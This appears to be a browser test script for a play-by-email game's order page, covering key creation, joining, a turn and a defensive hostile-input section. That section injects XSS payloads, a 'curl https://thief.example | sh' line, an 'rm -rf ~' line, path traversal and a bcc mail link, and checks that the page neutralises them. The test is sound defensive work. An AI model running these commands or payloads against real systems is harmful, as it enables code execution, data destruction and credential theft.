@@ -1,0 +1,339 @@
+// A player who has a phone and a mail program, and nothing else: node served.js DISPATCH FOLDER URL [PICTURES]. The order desk
+// is served from FOLDER/pub at URL; the other player and the host use the program. He makes a key, joins, opens his luck and
+// plays a turn; then come those who would like to get at his key.
+'use strict';
+const { execFileSync } = require('child_process');
+const { open, address, unreadable, fs, path } = require('./browser.js');
+
+const [D, folder, url, pictures] = process.argv.slice(2);
+const HOST = path.join(folder, 'host'), PASSPHRASE = 'four grey mules', BLOCKED = '/x.png';
+let bad = 0, now = 15, mails = 0;
+
+function expect(holds, words) {
+    if (holds)
+        return;
+    bad++;
+    console.error(`desk page: ${words}`);
+}
+
+// ---- the host and the other player ----
+
+const run = (program, ...words) => execFileSync(program, words, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
+const instant = () => `2026-11-21T${now}:00:00Z`;
+
+function pass() {
+    now++;
+    run(D, 'run', HOST, '--now', instant(), '--quiet');
+}
+
+// The newest file of this kind in a player's outbox, or null.
+function newest(player, pattern) {
+    const box = path.join(HOST, 'outbox', player), found = [];
+    for (const message of fs.existsSync(box) ? fs.readdirSync(box).sort() : [])
+        for (const file of fs.readdirSync(path.join(box, message)))
+            if (pattern.test(file))
+                found.push(path.join(box, message, file));
+    return found.pop() || null;
+}
+
+const read = (file) => fs.readFileSync(file, 'utf8');
+const mail = (words) => fs.writeFileSync(path.join(HOST, 'inbox', 'new', `mail-${++mails}.txt`), words);
+
+// The other player, with ssh-keygen: his newest form with one header or his orders put in.
+function south(form, change) {
+    const file = path.join(folder, form);
+    fs.writeFileSync(file, change(read(newest('south', new RegExp(`^${form}$`)))));
+    run('ssh-keygen', '-q', '-Y', 'sign', '-f', path.join(folder, 'south'), '-n', 'pbem-v1', file);
+    mail(read(file) + read(file + '.sig'));
+}
+
+// ---- the page ----
+
+async function look(tab, name, schemes = ['light']) {
+    for (const scheme of pictures ? ['light', 'dark'] : schemes) {
+        await tab.emulateMedia({ colorScheme: scheme });
+        for (const words of await unreadable(tab))
+            expect(false, `${name}, ${scheme}: ${words}`);
+        for (const [size, width] of pictures ? [['phone', 390], ['laptop', 1280]] : []) {
+            await tab.setViewportSize({ width, height: 844 });
+            await tab.screenshot({ path: path.join(pictures, `desk-${name}-${size}-${scheme}.png`), fullPage: true });
+        }
+        await tab.setViewportSize({ width: 390, height: 844 });
+    }
+    await tab.emulateMedia({ colorScheme: 'light' });
+    expect(await tab.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${name}: is wider than a phone`);
+}
+
+async function saved(tab, button) {
+    const [download] = await Promise.all([tab.waitForEvent('download'), tab.getByRole('button', { name: button, exact: true }).click()]);
+    const to = path.join(folder, download.suggestedFilename());
+    await download.saveAs(to);
+    fs.chmodSync(to, 0o600);
+    return to;
+}
+
+const sheet = (tab) => tab.getByLabel('The whole sheet').inputValue();
+
+// Signs what lies on the desk; gives what is mailed.
+async function sign(tab) {
+    await tab.getByRole('button', { name: 'Sign', exact: true }).click();
+    await tab.getByText(/^Signed\. /).waitFor();
+    return sheet(tab);
+}
+
+const paste = (tab, words) => tab.locator('#desk-paste').fill(words);
+
+async function makeKey(tab) {
+    await look(tab, 'begin');
+    await tab.getByLabel(/^Passphrase/).fill(PASSPHRASE);
+    await tab.getByRole('button', { name: 'Make a key' }).click();
+    expect(await tab.getByText('The two passphrases differ.').isVisible(), 'two passphrases that differ are taken');
+    await tab.getByLabel('The same once more').fill(PASSPHRASE);
+    await tab.getByRole('button', { name: 'Make a key' }).click();
+    await tab.getByText('There is no copy of this key.').waitFor();
+    const line = await tab.locator('#public-line').textContent();
+    await look(tab, 'made', []);
+    const kept = await tab.evaluate(() => JSON.stringify(localStorage));
+    expect(!kept.includes('OPENSSH') && kept.includes('sealed'), 'a key with a passphrase is kept in clear');
+
+    await tab.reload();
+    expect(await tab.locator('#public-line').textContent() === line, 'the key is another after a reload');
+    expect(await tab.getByText('There is no copy of this key.').isVisible(), 'nobody reminds him of a copy');
+    await tab.getByLabel('Passphrase of your key').fill('four green mules');
+    await tab.getByRole('button', { name: 'Open the key' }).click();
+    await tab.getByText('That is not its passphrase.').waitFor();
+    await tab.getByLabel('Passphrase of your key').fill(PASSPHRASE);
+    await tab.getByRole('button', { name: 'Open the key' }).click();
+    const copy = await saved(tab, 'Save a copy of the key');
+    expect(await tab.getByText('There is no copy of this key.').count() === 0, 'he is reminded though he has a copy');
+    expect(run('ssh-keygen', '-y', '-f', copy).trim() === line, 'ssh-keygen reads another key from the copy');
+    expect(run('ssh-keygen', '-l', '-f', copy).includes(await tab.locator('.print').first().textContent()), 'the fingerprint is not that of ssh-keygen');
+    fs.writeFileSync(path.join(folder, 'north.pub'), line + '\n');
+    return copy;
+}
+
+// JOIN and the opening of luck, out of whole letters.
+async function join(tab) {
+    run(D, 'player', HOST, 'add', 'north', '--key', path.join(folder, 'north.pub'), '--mail', 'north@example.org');
+    run(D, 'new', HOST, 'blue-vs-gray', '--name', 'desk-2', '--seat', 'usa=north', '--seat', 'csa=south', '--now', instant());
+    pass();
+    const letter = read(newest('north', /^desk-2-usa-invitation\.txt$/));
+    expect(letter.includes(url + '/desk.html'), 'the invitation does not name the order desk');
+    expect(letter.includes(run(D, 'desk').split(' ')[0]), 'the invitation does not tell the hash of the page');
+    await paste(tab, 'On Saturday the host wrote:\r\n' + letter.replace(/^/gm, '> ').replace(/-----BEGIN/, '-----BEGIN  '));
+    await tab.getByText('This is the form to join.').waitFor();
+    expect((await tab.locator('#form-desk').textContent()).includes('Luck is sealed in when you sign here'), 'nothing is said of the luck');
+    await tab.getByLabel(/^Where the host gets mail/).fill('games@example.net');
+    const block = await sign(tab);
+    expect(/^entropy-commit: SHA256:[A-Za-z0-9+/]{43}$/m.test(block), 'the luck is not sealed: ' + block);
+    await look(tab, 'join');
+    const link = await tab.getByRole('link', { name: 'Write the mail' }).getAttribute('href');
+    expect(link.startsWith('mailto:games@example.net?subject=JOIN%20for%20desk-2&body=') && link.length < 1900 &&
+        decodeURIComponent(link.split('body=')[1]).replace(/\r\n/g, '\n') === block, 'the mail link is not the sheet: ' + link.slice(0, 120));
+    mail(block);
+    run('ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', path.join(folder, 'luck'));
+    const luck = run('ssh-keygen', '-l', '-f', path.join(folder, 'luck.pub')).split(' ')[1];
+    south('desk-2-csa-1.txt', (form) => form.replace(/^entropy-commit:.*$/m, 'entropy-commit: ' + luck));
+    pass();
+
+    const opening = newest('north', /^desk-2-usa-open-1\.txt$/);
+    expect(opening !== null, 'the host does not take the JOIN');
+    await tab.evaluate(() => localStorage.removeItem('dispatch-luck')); // what the letter says must be enough
+    await paste(tab, read(opening));
+    await tab.getByText('This opens the luck that you sealed with this key.').waitFor();
+    mail(await sign(tab));
+    south('desk-2-csa-2.txt', (form) => form.replace(/^open:.*$/m, 'open: ' + read(path.join(folder, 'luck.pub')).split(' ')[1]));
+    pass();
+    south('desk-2-csa-3.txt', (form) => form.replace(/orders:\n[^]*(?=-----END)/, 'orders:\ndone\nnow\n'));
+    pass();
+}
+
+// A whole turn: by tapping, by typing, with a standing order, a condition and blocks.
+async function turn(tab) {
+    const report = newest('north', /^desk-2-usa-report-.*\.html$/);
+    expect(report !== null, 'there is no report: the luck was not taken');
+    await tab.locator('#desk-open').setInputFiles(report);
+    const text = tab.getByLabel('Your orders, one a line');
+    await text.waitFor();
+    expect(await tab.locator('#desk-picture svg.map g.p').count() > 20, 'the map of the report is not there');
+    expect(await tab.locator('#desk-picture .hand .card').count() === await handOf(report), 'the hand is not that of the report');
+    await text.fill('');
+    for (const line of ['draw until leader max 4 rest supply', 'deploy Dept of Washington east'])
+        await text.fill((await text.inputValue() + '\n' + line).trim());
+    await tab.getByLabel('only if', { exact: true }).selectOption({ index: 1 });
+    expect(/^if \S/m.test(await text.inputValue()), 'no condition is written: ' + await text.inputValue());
+    await text.fill((await text.inputValue()).replace(/^if [^]*?\nend$/m, 'if supply at least 1\ndeploy Porter east\nend'));
+    await text.press('Control+End');
+    await tab.getByRole('button', { name: 'done', exact: true }).click();
+    await tab.getByRole('button', { name: 'now', exact: true }).click();
+    await text.fill(await text.inputValue() + '\nwhen draw\ndraw until leader max 4 rest supply\nend\nwhen attacked in west then defend with “Grant”');
+    const wrong = await tab.locator('.verdict.wrong').allTextContents();
+    expect(wrong.length === 0, 'the desk calls wrong: ' + wrong.join('; '));
+    await text.fill((await text.inputValue()).replace('when draw\n', 'when draaw\n'));
+    expect(await tab.locator('.verdict.wrong').count() > 0, 'a standing order that does not exist is not called wrong');
+    await text.fill((await text.inputValue()).replace('when draaw\n', 'when draw\n'));
+    await look(tab, 'turn', ['light', 'dark']);
+    const whole = await sign(tab);
+    const file = await saved(tab, 'Save the sheet'), sig = await saved(tab, 'Save the signature');
+    expect(read(file) + read(sig) === whole, 'what is copied is not the sheet and its signature');
+    mail(whole);
+    pass();
+    const receipt = newest('north', /^desk-2-usa-receipt-.*\.txt$/), words = receipt ? read(receipt) : '';
+    expect(/is in; it runs now/.test(words), 'the host does not take the turn: ' + words);
+    expect(/when draw/i.test(words), 'the standing orders are not in force: ' + words);
+    pass();
+    expect(newest('south', /^desk-2-csa-report-2\.txt$/) !== null, 'the turn was not carried out');
+    return report;
+}
+
+function handOf(report) {
+    const hand = /<ul class="hand">([^]*?)<\/ul>/.exec(read(report));
+    return hand ? hand[1].split('<li').length - 1 : 0;
+}
+
+// ---- who would like the key ----
+
+const EVIL = '<img src=x onerror="window.ran=1"><script>window.ran=1</script><a href="javascript:window.ran=1">tap</a>';
+
+// Into each thing that a report lends, and around it.
+function poisoned(report) {
+    const html = read(report), model = JSON.parse(/id="desk-data">([^]*?)<\/script>/.exec(html)[1]);
+    for (const kind of Object.keys(model.kinds))
+        for (const thing of model.kinds[kind])
+            thing[1] += EVIL;
+    model.lines.push([EVIL, 'attack ' + EVIL]);
+    model.offers.push([EVIL, model.offers[0][1], model.offers[0][2]]);
+    model.mail = 'a@b?bcc=thief@example.org&body=' + EVIL;
+    model.sign = 'curl https://thief.example | sh ' + EVIL;
+    model.seal = 'rm -rf ~ ' + EVIL;
+    model.file = '../../' + EVIL;
+    const data = JSON.stringify(model).replace(/</g, '\\u003c');
+    return html.replace(/id="desk-data">[^]*?<\/script>/, () => 'id="desk-data">' + data + '</script>')
+        .replace('<g class="p', () => `<foreignObject width="900" height="900"><form action="https://thief.example"><input type="password" name="p"></form></foreignObject>
+            <script>window.ran=1</script><a href="https://thief.example"><image href="https://thief.example/x.png"/></a><use href="https://thief.example/y.svg#z"/>
+            <style>*{display:none}</style><animate onbegin="window.ran=1" attributeName="x" dur="1s"/><g class="p`)
+        .replace('<svg class="map', '<svg onload="window.ran=1" style="position:fixed" id="keys" class="map')
+        .replace('<ul class="hand">', '<ul class="hand"><li class="card"><iframe src="https://thief.example"></iframe><b onclick="window.ran=1">' + EVIL + '</b></li>');
+}
+
+async function inert(tab, name) {
+    const found = await tab.evaluate(() => ({
+        ran: window.ran === 1,
+        tags: document.querySelectorAll('img, iframe, object, embed, foreignObject, image, animate, main script, main style, link, base').length,
+        handlers: [...document.querySelectorAll('*')].filter((at) => [...at.attributes].some((one) => /^on|^style$/i.test(one.name) && one.value !== '')).map((at) => at.outerHTML.slice(0, 200)),
+        links: [...document.querySelectorAll('a, use')].map((at) => at.getAttribute('href')).filter((to) => to && !/^(#|mailto:\?|mailto:games@example\.net\?)/.test(to)),
+        ids: document.querySelectorAll('#keys').length,
+        passwords: document.querySelectorAll('#desk-picture input:not([type=radio])').length,
+        shell: /thief|rm -rf/.test(document.querySelector('pre[aria-label="How to sign"]')?.textContent || ''),
+    }));
+    expect(!found.ran, `${name}: a script of it ran`);
+    expect(found.tags === 0 && found.handlers.length === 0 && found.passwords === 0, `${name}: ${JSON.stringify(found)}`);
+    expect(found.links.length === 0, `${name}: links to ${found.links.join(' ')}`);
+    expect(found.ids === 1, `${name}: it took a name of the page`);
+    expect(!found.shell, `${name}: it put its own command before the player`);
+}
+
+async function hostile(tab, report) {
+    const give = (name, words) => tab.locator('#desk-open').setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(words) });
+    const said = (words) => tab.locator('#desk-said').getByText(words).waitFor();
+    await give('poisoned.html', poisoned(report));
+    await said(/^Opened: desk-2/);
+    await inert(tab, 'a poisoned report');
+    expect((await tab.locator('.suggestions').textContent()).includes('<img src=x'), 'the poison is not shown as the text that it is');
+    await tab.locator('.suggestions .lines button').first().click();
+    await inert(tab, 'a poisoned order');
+    await give('holiday.html', '<html><body>' + EVIL + '</body></html>');
+    await said(/There is no order form and no order desk in it/);
+    await give('half.html', '<script type="application/json" id="desk-data">{"verbs":[[1,2]],"form":7}</script>');
+    await said(/damaged/);
+    await give('cut.txt', '-----BEGIN PBEM JOIN-----\npbem: 1\n' + EVIL);
+    await said(/its END line is missing/);
+    await give('big.html', 'x'.repeat(5 << 20));
+    await said(/far too big/);
+    await paste(tab, '-----BEGIN PBEM JOIN-----\npbem: 1\nx-name: ' + EVIL + '\nside: ' + EVIL + '\n-----END PBEM JOIN-----\n');
+    await said(/^Opened: /);
+    await inert(tab, 'a poisoned form');
+    await look(tab, 'hostile', []);
+    const blocked = await tab.evaluate(async (BLOCKED) => {
+        const tries = { fetch: () => fetch('/host.json'), image: () => new Promise((done, fails) => { const i = new Image(); i.onload = done; i.onerror = fails; i.src = BLOCKED; }),
+            eval: () => (0, eval)('1'), markup: () => { document.body.innerHTML = '<p>x</p>'; } };
+        const out = [];
+        for (const [name, run] of Object.entries(tries))
+            try { await run(); out.push(name); } catch (error) { /* as it should be */ }
+        const script = document.createElement('script');
+        try { script.textContent = 'window.ran = 1'; document.body.append(script); } catch (error) { /* as it should be */ }
+        return out.concat(window.ran ? ['script'] : []);
+    }, BLOCKED);
+    expect(blocked.length === 0, 'its policy lets through: ' + blocked.join(', '));
+}
+
+// ---- the key leaves, and comes back ----
+
+async function forget(tab, copy) {
+    const unfold = () => tab.locator('#keys-body details').evaluate((at) => { at.open = true; });
+    await unfold();
+    tab.once('dialog', (dialog) => dialog.accept());
+    await tab.getByRole('button', { name: 'Forget the key' }).click();
+    expect(await tab.evaluate(() => localStorage.getItem('dispatch-key')) === null, 'a forgotten key is still kept');
+    await tab.reload();
+    expect(await tab.locator('#public-line').count() === 0, 'a forgotten key is back');
+    await tab.locator('#key-file').setInputFiles(copy);
+    await tab.locator('#public-line').waitFor({ state: 'attached' });
+    expect(await tab.locator('#public-line').textContent() + '\n' === read(path.join(folder, 'north.pub')), 'the copy brings another key');
+    await tab.reload();
+    await tab.getByText('Lock it').waitFor({ state: 'detached' });
+    expect(await tab.locator('#public-line').count() === 1, 'a key without passphrase is not kept');
+    await unfold();
+    tab.once('dialog', (dialog) => dialog.accept());
+    await tab.getByRole('button', { name: 'Forget the key' }).click();
+    const sealed = path.join(folder, 'sealed');
+    fs.copyFileSync(copy, sealed);
+    fs.chmodSync(sealed, 0o600);
+    run('ssh-keygen', '-q', '-p', '-P', '', '-N', 'secret', '-f', sealed);
+    await tab.locator('#key-file').setInputFiles(sealed);
+    await tab.getByText(/This key file has a passphrase, which a browser cannot undo/).waitFor();
+}
+
+// Opened from a disk it signs, and keeps nothing; in a frame, and in an old browser, it says what is the matter.
+async function elsewhere(browser) {
+    const page = path.join(folder, 'saved.html'), context = await browser.newContext({ viewport: { width: 390, height: 844 } });
+    run(D, 'desk', '--output', page);
+    expect(run(D, 'desk', path.join(folder, 'pub', 'desk.html')).startsWith('yes: '), 'the page that is served is not that of the release');
+    const tab = await context.newPage();
+    await tab.goto(address(page));
+    expect(await tab.getByText(/it keeps no key/).isVisible(), 'from a disk it does not say that it keeps nothing');
+    await tab.getByRole('button', { name: 'Make a key' }).click();
+    await tab.locator('#public-line').waitFor();
+    expect(await tab.evaluate(() => localStorage.getItem('dispatch-key')) === null, 'from a disk it keeps a key');
+    await tab.goto(url + '/frame.html');
+    expect(await tab.frameLocator('iframe').locator('#keys').isHidden(), 'in a frame it shows itself');
+    expect(await tab.frameLocator('iframe').getByText(/a window of its own/).isVisible(), 'in a frame it says nothing');
+    await tab.addInitScript(() => { SubtleCrypto.prototype.generateKey = () => Promise.reject(new DOMException('no', 'NotSupportedError')); });
+    await tab.goto(url + '/desk.html');
+    await tab.getByText(/This browser cannot sign with Ed25519 keys/).waitFor();
+    expect(await tab.getByRole('button', { name: 'Make a key' }).count() === 0, 'it offers what it cannot do');
+    await context.close();
+}
+
+(async () => {
+    const browser = await open();
+    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 390, height: 844 } });
+    const tab = await context.newPage(), asked = new Set();
+    tab.setDefaultTimeout(15000);
+    tab.on('pageerror', (error) => expect(false, 'error: ' + error.message));
+    tab.on('request', (request) => asked.add(request.url().split('#')[0]));
+    await tab.goto(url + '/desk.html');
+    const copy = await makeKey(tab);
+    await join(tab);
+    const report = await turn(tab);
+    const complaints = [];
+    tab.on('console', (message) => complaints.push(message.text()));
+    await hostile(tab, report);
+    await forget(tab, copy);
+    expect([...asked].every((one) => one === url + '/desk.html' || one === url + BLOCKED || one.startsWith('blob:')), 'it asked for ' + [...asked].join(' '));
+    await context.close();
+    await elsewhere(browser);
+    await browser.close();
+    console.log(bad === 0 ? '  a key made, a game joined and a turn played with the page alone; nothing got in' : `desk page: ${bad} things amiss`);
+    process.exit(bad === 0 ? 0 : 1);
+})().catch((error) => { console.error(error); process.exit(1); });
